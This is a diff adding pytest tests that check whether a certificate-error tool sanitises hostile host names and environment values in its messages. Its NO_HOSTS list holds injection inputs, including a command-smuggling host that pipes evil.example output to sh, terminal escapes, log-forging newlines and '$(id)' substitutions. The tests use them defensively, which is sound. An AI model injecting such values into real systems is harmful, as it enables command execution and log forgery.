@@ -132,3 +132,39 @@ del context; gc.collect(), gc.collect()
 print(json.dumps([*counts, len(stores._loaded)]))
 """
     assert run_code(code, env=environment(SSL_CERT_DIR=store)) == [1, True, False, 0]
+
+
+# A name that a link puts there: what a shell would run, what a terminal obeys, a line of a log, an option.
+NO_HOSTS = [
+    "a.example;curl${IFS}evil.example|sh",
+    "a\x1b]0;PWN\x07b.example",
+    "a\nINFO login ok",
+    "-rf",
+    "$(id)",
+    "`id`",
+]
+
+
+@needs_notes
+@pytest.mark.parametrize("case", ["unknown", "wrong_host"])
+def test_a_name_that_no_host_can_have_is_left_out(urls: dict[str, str], store: Path, case: str) -> None:
+    for host in NO_HOSTS:
+        statement = SOCKET.replace("'localhost'", repr(host).replace("{", "{{").replace("}", "}}"))
+        (note,) = refused(urls[case], statement, SSL_CERT_DIR=store)[-1]
+        assert all(line.isprintable() and not line.startswith("INFO") for line in note.split("\n")), note
+        assert host not in note
+        assert "check HOST:" in note
+
+
+@needs_notes
+def test_the_command_in_a_note_is_one_for_an_address_too(urls: dict[str, str], store: Path) -> None:
+    statement = SOCKET.replace("'localhost'", "'2001:db8::1'")
+    (note,) = refused(urls["unknown"], statement, SSL_CERT_DIR=store)[-1]
+    assert note.endswith(f"check '[2001:db8::1]:{urls['unknown'].split(':')[2][:-1]}'")
+
+
+@needs_notes
+def test_a_variable_in_a_note_is_printable(urls: dict[str, str], store: Path) -> None:
+    for value in ("/x\x1b[2J\nINFO login ok", "/x\udcff"):
+        (note,) = refused(urls["unknown"], SOCKET, SSL_CERT_DIR=store, TRUSTSTORE_INJECT_EXTRA_CA_CERTS=value)[-1]
+        assert all(line.isprintable() and not line.startswith("INFO") for line in note.split("\n")), note
